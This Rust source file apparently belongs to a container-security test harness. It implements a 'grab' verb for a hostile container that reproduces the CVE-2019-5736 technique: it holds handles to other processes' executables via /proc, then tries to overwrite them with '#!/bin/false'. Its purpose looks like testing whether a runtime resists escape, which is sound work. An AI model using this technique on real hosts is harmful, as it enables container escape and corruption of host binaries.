//! More verbs of a hostile container.

use std::collections::BTreeMap;
use std::fs::{self, File, OpenOptions};
use std::os::fd::AsRawFd;
use std::os::unix::fs::OpenOptionsExt;
use std::time::{Duration, Instant};

use serde_json::json;

use crate::{Answer, arg, errno, say};

pub fn answer(verb: &str, args: &[&str]) -> Option<Answer> {
    Some(match verb {
        "grab" => grab(arg(args, 0)),
        _ => return None,
    })
}

/// `grab STOPFILE`: until the file appears, keeps hold of the executable of every process that is not
/// `/payload`, as the exploit of CVE-2019-5736 does; then tries for a while to open them for writing.
fn grab(stop: &str) -> Answer {
    let mut held: BTreeMap<i32, (String, File)> = BTreeMap::new();
    say(&json!("ready"));
    while fs::symlink_metadata(stop).is_err() {
        let Ok(dir) = fs::read_dir("/proc") else { continue };
        for pid in dir.flatten().filter_map(|e| e.file_name().to_str()?.parse::<i32>().ok()) {
            let exe = format!("/proc/{pid}/exe");
            if held.contains_key(&pid) {
                continue;
            }
            let Ok(link) = fs::read_link(&exe) else { continue };
            if link.to_string_lossy() == "/payload" {
                continue;
            }
            if let Ok(file) = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(&exe) {
                held.insert(pid, (link.to_string_lossy().into_owned(), file));
                say(&json!("held"));
            }
        }
    }
    let mut outcomes = BTreeMap::new();
    for (name, file) in held.values() {
        outcomes.insert(name.clone(), overwrite(file));
    }
    Ok(json!({"held": held.len(), "outcomes": outcomes}))
}

fn overwrite(file: &File) -> String {
    let path = format!("/proc/self/fd/{}", file.as_raw_fd());
    let end = Instant::now() + Duration::from_secs(5);
    loop {
        match OpenOptions::new().write(true).open(&path) {
            Ok(mut file) => {
                let wrote = std::io::Write::write_all(&mut file, b"#!/bin/false\n");
                return format!("opened for writing, wrote: {wrote:?}");
            }
            // Busy for as long as somebody executes it.
            Err(error) if error.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < end => {}
            Err(error) => return format!("{:?}", errno(error)),
        }
    }
}
